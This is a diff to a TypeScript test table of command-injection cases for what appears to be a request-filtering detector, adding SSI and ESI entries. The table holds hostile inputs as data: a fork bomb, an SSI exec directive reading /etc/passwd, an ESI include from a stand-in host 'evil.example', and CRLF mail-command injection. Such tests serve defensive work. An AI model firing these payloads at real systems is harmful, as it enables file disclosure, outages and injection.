@@ -72,6 +72,10 @@ export const CMDI_CASES: readonly CmdiCase[] = [
   // Other shells' and servers' syntax.
   { input: ':(){ :|:& };:', expect: 'cmdi/fork-bomb' },
   { input: '<!--#exec cmd="/bin/cat /etc/passwd"-->', expect: 'cmdi/ssi-directive' },
+  { input: '<!--#echo var="DATE_LOCAL" -->', expect: 'cmdi/ssi-directive', min: BLOCKS },
+  { input: '<esi:include src="http://evil.example/x.html"/>', expect: 'cmdi/esi-tag', min: BLOCKS },
+  { input: 'x=<esi:assign name="v" value="1"/><esi:vars name="$(v)"/>', expect: 'cmdi/esi-tag', min: BLOCKS },
+  { input: '<!-- # echo the value here -->', kind: 'body-value', expect: null, max: BLOCKS },
   { input: '%0D%0ARCPT TO:<victim@example.com>', kind: 'body-value', expect: 'cmdi/mail-command' },
   { input: 'hello%0D%0Aa001 LOGIN admin secret', kind: 'body-value', expect: 'cmdi/mail-command' },
 
